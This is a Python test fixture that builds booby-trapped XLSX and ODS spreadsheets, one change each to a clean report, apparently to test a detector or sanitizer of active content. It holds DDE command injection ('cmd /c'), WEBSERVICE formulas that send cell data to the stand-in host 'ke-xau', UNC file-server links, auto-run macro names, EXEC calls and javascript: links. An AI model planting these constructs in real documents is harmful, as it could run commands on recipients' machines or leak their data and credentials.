"""Reports that do something when they are opened: one change each to a sound one.

Every attack leads to `TRACE`, so that what comes of it can be looked for in every byte of what goes out.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import NamedTuple

from assets.submissions.active_content.kinds import Active
from tests.assets.submissions.returned.marked_books import Parts

TRACE = b"ke-xau"
_BOOK = "xl/workbook.xml"
_SHEET = "xl/worksheets/sheet3.xml"
_PACKAGE = ""
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_UNC = r"file:///\\ke-xau\chung\so.xlsx"
_ID = f'xmlns:r="{_OFFICE}" r:id="rIdX"'
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_XM = "http://schemas.microsoft.com/office/excel/2006/main"
_XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"


class Attack(NamedTuple):
    """What is done to a sound report, and what is found in it.

    Attributes:
        change: of the report's parts.
        found: None where the report is refused as a whole.
        has_file: whether the agency's own file comes back.
    """

    change: Callable[[Parts], None]
    found: Active | None
    has_file: bool = True


def _both(*changes: Callable[[Parts], None]) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        for one in changes:
            one(parts)

    return change


def relation(source: str, kind: str, target: str, *, is_outside: bool = False) -> Callable[[Parts], None]:
    """Add a relation `rIdX` to a part; `kind` is the type's last words, or the whole type."""

    def change(parts: Parts) -> None:
        folder, _, name = source.rpartition("/")
        rels = f"{folder}/_rels/{name}.rels".lstrip("/")
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        mode = ' TargetMode="External"' if is_outside else ""
        whole = kind if ":" in kind else f"{_OFFICE}/{kind}"
        own = f'<Relationship Id="rIdX" Type="{whole}" Target="{target}"{mode}/></Relationships>'
        parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", own.encode())

    return change


def part(name: str, content: str = "ke-xau", content_type: str | None = None) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts[name] = content.encode()
        if content_type is not None:
            own = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
            parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", own.encode())

    return change


def before(name: str, tag: str, xml: str) -> Callable[[Parts], None]:
    """Put XML before the first place of a tag in a part."""

    def change(parts: Parts) -> None:
        assert tag.encode() in parts[name], (name, tag)
        parts[name] = parts[name].replace(tag.encode(), xml.encode() + tag.encode(), 1)

    return change


def at_end(xml: str) -> Callable[[Parts], None]:
    """Put XML at the end of the sheet of activities."""
    return before(_SHEET, "</worksheet>", xml)


def formula(text: str, attributes: str = "") -> Callable[[Parts], None]:
    """Have a cell far to the right of the activities computed, with a result that is kept."""

    def change(parts: Parts) -> None:
        cell = f'<c r="Z1"><f{attributes}>{text}</f><v>7</v></c></row>'.encode()
        parts[_SHEET] = re.sub(rb"</row>", lambda _: cell, parts[_SHEET], count=1)

    return change


def name(attributes: str, text: str) -> Callable[[Parts], None]:
    own = f"<definedName {attributes}>{text}</definedName>".encode()

    def change(parts: Parts) -> None:
        opened = re.sub(rb"<definedNames\s*/>", b"<definedNames></definedNames>", parts[_BOOK])
        parts[_BOOK] = opened.replace(b"<definedNames>", b"<definedNames>" + own, 1)
        assert own in parts[_BOOK]

    return change


def _external_link(kind: str) -> Callable[[Parts], None]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    content = f'<externalLink xmlns="{main}">{kind}</externalLink>'
    link = "xl/externalLinks/externalLink1.xml"
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    reference = f"<externalReferences><externalReference {_ID}/></externalReferences>"
    return _both(
        part(link, content, types),
        relation(link, "externalLinkPath", _UNC, is_outside=True),
        relation(_BOOK, "externalLink", "externalLinks/externalLink1.xml"),
        before(_BOOK, "<calcPr", reference),
    )


def _sheet_of(kind: str, type_: str, content: str) -> Callable[[Parts], None]:
    return _both(
        part("xl/macrosheets/sheet9.xml", content, type_),
        relation(_BOOK, kind, "macrosheets/sheet9.xml"),
        before(_BOOK, "</sheets>", f'<sheet name="M" sheetId="99" state="veryHidden" {_ID}/>'),
    )


def _drawing(shape: str) -> Callable[[Parts], None]:
    anchor = (
        "<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>"
        "<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row>"
        f"<xdr:rowOff>0</xdr:rowOff></xdr:to>{shape}<xdr:clientData/></xdr:twoCellAnchor>"
    )
    content = f'<xdr:wsDr xmlns:xdr="{_XDR}" xmlns:a="{_A}" xmlns:r="{_OFFICE}">{anchor}</xdr:wsDr>'
    reference = f'<drawing xmlns:r="{_OFFICE}" r:id="rIdX"/>'
    return _both(
        part("xl/drawings/drawing9.xml", content, "application/vnd.openxmlformats-officedocument.drawing+xml"),
        relation(_SHEET, "drawing", "../drawings/drawing9.xml"),
        at_end(reference),
    )


_PLACE = (
    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
)
_SHAPE = (
    '<xdr:sp macro="{macro}" textlink="{text}"><xdr:nvSpPr><xdr:cNvPr id="2" name="S">{link}</xdr:cNvPr><xdr:cNvSpPr/>'
    f"</xdr:nvSpPr><xdr:spPr>{_PLACE}</xdr:spPr></xdr:sp>"
)
_PICTURE = (
    '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="P"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
    f'<a:blip r:link="rIdX"/></xdr:blipFill><xdr:spPr>{_PLACE}</xdr:spPr></xdr:pic>'
)
_MACROS = "application/vnd.ms-excel.macrosheet+xml"
_WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_MACRO_XML = f'<xm:macrosheet xmlns:xm="{_XM}"><sheetData/><ke-xau/></xm:macrosheet>'
_DDE = '<ddeLink ddeService="cmd" ddeTopic="/c ke-xau"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
_BOOK_LINK = '<externalBook><sheetNames><sheetName val="ke-xau"/></sheetNames></externalBook>'

ATTACKS: dict[str, Attack] = {
    "a workbook on a file server": Attack(_external_link(_BOOK_LINK), Active.EXTERNAL_BOOK),
    "a link by DDE": Attack(_external_link(_DDE), Active.DDE),
    "a linked object": Attack(_external_link('<oleLink progId="ke-xau"/>'), Active.OLE),
    "a formula over another workbook": Attack(formula("'\\\\ke-xau\\x\\[a.xlsx]S'!A1"), Active.EXTERNAL_BOOK),
    "a formula over a numbered workbook": Attack(formula('[1]S!A1&amp;"ke-xau"'), Active.EXTERNAL_BOOK),
    "DDE in a formula": Attack(formula("cmd|'/c ke-xau'!A0"), Active.DDE),
    "WEBSERVICE": Attack(formula('_xlfn.WEBSERVICE("https://ke-xau/"&amp;A1)'), Active.NETWORK_FORMULA),
    "WEBSERVICE in letters written otherwise": Attack(
        formula('_xlfn.&#87;EB<!-- -->SERVICE ("https://ke-xau")'), Active.NETWORK_FORMULA
    ),
    "a picture by a formula": Attack(formula('_xlfn.IMAGE("https://ke-xau/a.png")'), Active.NETWORK_FORMULA),
    "RTD": Attack(formula('RTD("ke-xau","","x")'), Active.NETWORK_FORMULA),
    "a shared formula": Attack(
        formula('_xlfn.WEBSERVICE("https://ke-xau")', ' t="shared" ref="Z1:Z2" si="9"'), Active.NETWORK_FORMULA
    ),
    "a link formula to a file server": Attack(formula('HYPERLINK("\\\\ke-xau\\x.exe","x")'), Active.ADDRESS),
    "a name that runs when the workbook opens": Attack(
        _both(name('name="Auto_Open" hidden="1"', "'Hoạt động'!$A$1"), name('name="ke-xau" xlm="1"', "1")),
        Active.MACRO_NAME,
    ),
    "a name that runs when it closes": Attack(name('name="_xlnm.Auto_Close_ke-xau"', "1"), Active.MACRO_NAME),
    "a name that calls another program": Attack(name('name="x"', 'EXEC("ke-xau")'), Active.NETWORK_FORMULA),
    "a condition of colour": Attack(
        before(
            _SHEET,
            "<pageMargins",
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9">'
            '<formula>_xlfn.WEBSERVICE("https://ke-xau")=1</formula></cfRule></conditionalFormatting>',
        ),
        Active.NETWORK_FORMULA,
    ),
    "a list of choices in another workbook": Attack(
        at_end(
            f'<extLst><ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" xmlns:x14="{_X14}" xmlns:xm="{_XM}">'
            '<x14:dataValidations count="1"><x14:dataValidation type="list"><x14:formula1><xm:f>'
            "'\\\\ke-xau\\[a.xlsx]S'!A1:A9</xm:f></x14:formula1><xm:sqref>Z9</xm:sqref></x14:dataValidation></x14:dataValidations></ext>"
            "</extLst>"
        ),
        Active.EXTERNAL_BOOK,
    ),
    "VBA": Attack(
        _both(
            part("xl/vbaProject.bin", content_type="application/vnd.ms-office.vbaProject"),
            relation(_BOOK, f"{_MICROSOFT}/vbaProject", "vbaProject.bin"),
        ),
        Active.MACROS,
    ),
    "VBA without a relation": Attack(part("xl/vbaProject.bin"), Active.MACROS),
    "VBA by a relation of another part": Attack(
        _both(part("xl/other.bin"), relation(_SHEET, f"{_MICROSOFT}/vbaProject", "../other.bin")), Active.MACROS
    ),
    "a sheet of macros": Attack(
        _sheet_of(f"{_MICROSOFT}/xlMacrosheet", _MACROS, _MACRO_XML), Active.MACRO_SHEET, has_file=False
    ),
    "an international sheet of macros": Attack(
        _sheet_of(f"{_MICROSOFT}/xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml", _MACRO_XML),
        Active.MACRO_SHEET,
        has_file=False,
    ),
    "a sheet of macros behind the relation of a worksheet": Attack(
        _sheet_of("worksheet", _MACROS, _MACRO_XML), None, has_file=False
    ),
    "a sheet of macros declared as a worksheet": Attack(
        _sheet_of("worksheet", _WORKSHEET, _MACRO_XML), None, has_file=False
    ),
    "a ribbon": Attack(
        _both(
            part("customUI/customUI14.xml", '<customUI onLoad="ke-xau"/>'),
            relation(
                _PACKAGE,
                "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                "customUI/customUI14.xml",
            ),
        ),
        Active.RIBBON,
    ),
    "a web extension": Attack(
        _both(
            part("xl/webextensions/taskpanes.xml", "<taskpanes>ke-xau</taskpanes>"),
            relation(
                _PACKAGE,
                "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                "xl/webextensions/taskpanes.xml",
            ),
        ),
        Active.WEB_EXTENSION,
    ),
    "ActiveX": Attack(
        _both(
            part("xl/activeX/activeX1.xml", "<ocx>ke-xau</ocx>", "application/vnd.ms-office.activeX+xml"),
            relation(_SHEET, "control", "../activeX/activeX1.xml"),
            at_end(f'<controls><control shapeId="1025" name="ke-xau" {_ID}/></controls>'),
        ),
        Active.ACTIVEX,
    ),
    "an embedded object": Attack(
        _both(
            part(
                "xl/embeddings/oleObject1.bin", content_type="application/vnd.openxmlformats-officedocument.oleObject"
            ),
            relation(_SHEET, "oleObject", "../embeddings/oleObject1.bin"),
            at_end(f'<oleObjects><oleObject progId="ke-xau" shapeId="1025" {_ID}/></oleObjects>'),
        ),
        Active.OLE,
    ),
    "a linked object of a sheet": Attack(
        _both(
            relation(_SHEET, "oleObject", "file:///\\\\ke-xau\\a.doc", is_outside=True),
            at_end(f'<oleObjects><oleObject progId="ke-xau" link="x" shapeId="1025" {_ID}/></oleObjects>'),
        ),
        Active.OLE,
    ),
    "a web query": Attack(
        _both(
            part(
                "xl/connections.xml",
                '<connections><connection><webPr url="https://ke-xau"/></connection></connections>',
            ),
            relation(_BOOK, "connections", "connections.xml"),
            part("xl/queryTables/queryTable1.xml", '<queryTable name="ke-xau"/>'),
            relation(_SHEET, "queryTable", "../queryTables/queryTable1.xml"),
        ),
        Active.QUERY,
    ),
    "a map of XML with an address": Attack(
        _both(part("xl/xmlMaps.xml", "<MapInfo>ke-xau</MapInfo>"), relation(_BOOK, "xmlMaps", "xmlMaps.xml")),
        Active.XML_MAP,
    ),
    "a template on a file server": Attack(
        relation(_BOOK, "attachedTemplate", "file:///\\\\ke-xau\\a.xltm", is_outside=True), Active.TEMPLATE
    ),
    "a link to a file server": Attack(
        _both(
            relation(_SHEET, "hyperlink", "\\\\ke-xau\\x", is_outside=True),
            before(_SHEET, "<pageMargins", f'<hyperlinks><hyperlink ref="Z3" {_ID}/></hyperlinks>'),
        ),
        Active.ADDRESS,
    ),
    "a link that is a script": Attack(
        _both(
            relation(_SHEET, "hyperlink", "java&#10;script:ke-xau()", is_outside=True),
            before(_SHEET, "<pageMargins", f'<hyperlinks><hyperlink ref="Z3" {_ID}/></hyperlinks>'),
        ),
        Active.ADDRESS,
    ),
    "a sum over another workbook": Attack(
        _both(
            relation(_SHEET, "externalLinkPath", _UNC, is_outside=True),
            before(
                _SHEET,
                "<pageMargins",
                f'<dataConsolidate><dataRefs count="1"><dataRef ref="A1" {_ID}/></dataRefs></dataConsolidate>',
            ),
        ),
        Active.EXTERNAL_BOOK,
    ),
    "a table that a query fills": Attack(
        _both(
            part(
                "xl/tables/table1.xml",
                '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="B"'
                ' displayName="B" ref="Y1:Y2" tableType="queryTable" connectionId="1"><autoFilter ref="Y1:Y2"/>'
                '<tableColumns count="1"><tableColumn id="1" name="x"/></tableColumns></table>',
                "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
            ),
            part("xl/queryTables/queryTable1.xml", '<queryTable name="ke-xau"/>'),
            relation("xl/tables/table1.xml", "queryTable", "../queryTables/queryTable1.xml"),
            relation(_SHEET, "table", "../tables/table1.xml"),
            at_end(f'<tableParts count="1"><tablePart {_ID}/></tableParts>'),
        ),
        Active.QUERY,
    ),
    "a base of all links": Attack(
        before("docProps/app.xml", "</Properties>", "<HyperlinkBase>\\\\ke-xau\\</HyperlinkBase>"), Active.ADDRESS
    ),
    "a picture from elsewhere": Attack(
        _both(
            _drawing(_PICTURE), relation("xl/drawings/drawing9.xml", "image", "https://ke-xau/1.png", is_outside=True)
        ),
        Active.LINKED_PICTURE,
    ),
    "a shape that calls a macro of another workbook": Attack(
        _drawing(_SHAPE.format(macro="'\\\\ke-xau\\a.xlsm'!x", text="", link="")), Active.MACROS
    ),
    "a shape that shows another workbook": Attack(
        _drawing(_SHAPE.format(macro="", text="'\\\\ke-xau\\[a.xlsx]S'!A1", link="")), Active.EXTERNAL_BOOK
    ),
    "a shape that is a link to a file server": Attack(
        _both(
            _drawing(_SHAPE.format(macro="", text="", link='<a:hlinkClick r:id="rIdX"/>')),
            relation("xl/drawings/drawing9.xml", "hyperlink", "file://ke-xau/x", is_outside=True),
        ),
        Active.ADDRESS,
    ),
}

_OF = "http://www.w3.org/1999/xlink"


def _content(tag: str, xml: str) -> Callable[[Parts], None]:
    return before("content.xml", tag, xml)


def _attribute(text: str) -> Callable[[Parts], None]:
    """Give the first cell of the file a further attribute."""

    def change(parts: Parts) -> None:
        own = f"<table:table-cell {text} ".encode()
        parts["content.xml"] = re.sub(rb"<table:table-cell(?=[\s>/])", lambda _: own, parts["content.xml"], count=1)

    return change


def _link(address: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        own = f'<text:p><text:a xmlns:xlink="{_OF}" xlink:href="{address}">'.encode()
        parts["content.xml"] = re.sub(
            rb"<text:p>([^<]*)</text:p>",
            lambda old: own + old[1] + b"</text:a></text:p>",
            parts["content.xml"],
            count=1,
        )

    return change


_HREF = f'xmlns:xlink="{_OF}" xlink:type="simple" xlink:href'
_SHEETS = "<table:table "
_DRAW = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
_SHAPES = f"<table:shapes><draw:frame {_DRAW}>{{}}</draw:frame></table:shapes>"


def _in_sheet(xml: str) -> Callable[[Parts], None]:
    """Put XML before everything else in the first sheet."""

    def change(parts: Parts) -> None:
        own = xml.encode()
        parts["content.xml"] = re.sub(
            rb"(<table:table [^<>]*>)", lambda old: old[1] + own, parts["content.xml"], count=1
        )

    return change


def _shape(xml: str) -> Callable[[Parts], None]:
    return _in_sheet(_SHAPES.format(xml))


ODS_ATTACKS: dict[str, Attack] = {
    "macros": Attack(part("Basic/Standard/Module1.xml", "<script:module>ke-xau</script:module>"), Active.MACROS),
    "a script in Python": Attack(part("Scripts/python/ke-xau.py"), Active.MACROS),
    "an event that calls a macro": Attack(
        _content(
            "<office:body",
            '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:x"'
            f' script:event-name="dom:load" {_HREF}="vnd.sun.star.script:ke-xau"/>'
            "</office:event-listeners></office:scripts>",
        ),
        Active.SCRIPT,
    ),
    "a script in the content": Attack(
        _content("<office:body", "<office:scripts><office:script>ke-xau</office:script></office:scripts>"),
        Active.SCRIPT,
    ),
    "a menu of its own": Attack(
        part("Configurations2/menubar/menubar.xml", '<m:x xmlns:m="urn:m" m:href="ke-xau"/>'), Active.RIBBON
    ),
    "a sheet out of another workbook": Attack(
        _in_sheet(f'<table:table-source {_HREF}="//ke-xau/a.ods"/>'), Active.EXTERNAL_BOOK
    ),
    "what is kept of another workbook": Attack(
        _content(
            _SHEETS,
            "<table:table table:name=\"'file:///ke-xau/a.ods'#$S\"><table:table-row><table:table-cell/></table:table-row>"
            "</table:table>",
        ),
        Active.EXTERNAL_BOOK,
    ),
    "DDE": Attack(
        _content(
            "</office:spreadsheet>",
            '<table:dde-links><table:dde-link><office:dde-source office:dde-application="ke-xau"/></table:dde-link>'
            "</table:dde-links>",
        ),
        Active.DDE,
    ),
    "DDE in a formula": Attack(
        _attribute('table:formula="of:=DDE(&quot;ke-xau&quot;;&quot;a&quot;;&quot;b&quot;)"'), Active.DDE
    ),
    "WEBSERVICE": Attack(
        _attribute('table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://ke-xau&quot;)"'), Active.NETWORK_FORMULA
    ),
    "a formula over another workbook": Attack(
        _attribute("table:formula=\"of:=['file:///ke-xau/a.ods'#$S.A1]\""), Active.EXTERNAL_BOOK
    ),
    "a link to a file server": Attack(_link("file://ke-xau/x"), Active.ADDRESS),
    "a link to a macro": Attack(_link("vnd.sun.star.script:ke-xau"), Active.ADDRESS),
    "a picture from elsewhere": Attack(_shape(f'<draw:image {_HREF}="https://ke-xau/1.png"/>'), Active.LINKED_PICTURE),
    "an embedded object": Attack(
        _both(part("Object 1/content.xml", "<x>ke-xau</x>"), _shape(f'<draw:object {_HREF}="./Object 1"/>')), Active.OLE
    ),
    "an OLE object": Attack(_shape(f'<draw:object-ole {_HREF}="./ke-xau"/>'), Active.OLE),
    "a plugin": Attack(_shape(f'<draw:plugin {_HREF}="https://ke-xau"/>'), Active.ACTIVEX),
    "a frame of another page": Attack(_shape(f'<draw:floating-frame {_HREF}="https://ke-xau"/>'), Active.EXTERNAL_BOOK),
    "a condition of colour": Attack(
        _in_sheet(
            '<calcext:conditional-formats><calcext:conditional-format calcext:target-range-address="a.A1">'
            '<calcext:condition calcext:value="formula-is(WEBSERVICE(&quot;https://ke-xau&quot;))"/>'
            "</calcext:conditional-format></calcext:conditional-formats>"
        ),
        Active.NETWORK_FORMULA,
    ),
    "data that come from elsewhere": Attack(
        _content(
            "</office:spreadsheet>",
            f'<calcext:data-mappings><calcext:data-mapping {_HREF}="https://ke-xau"/></calcext:data-mappings>',
        ),
        Active.QUERY,
    ),
    "a font from elsewhere": Attack(
        _content(
            "<office:body",
            '<office:font-face-decls><style:font-face xmlns:style="urn:s" style:name="x"><svg:font-face-src'
            f' xmlns:svg="urn:v"><svg:font-face-uri {_HREF}="https://ke-xau"/></svg:font-face-src></style:font-face>'
            "</office:font-face-decls>",
        ),
        Active.LINKED_PICTURE,
    ),
    "a form": Attack(
        _shape('<office:forms><form:form xmlns:form="urn:f" form:command="ke-xau"/></office:forms>'), Active.FORM
    ),
}
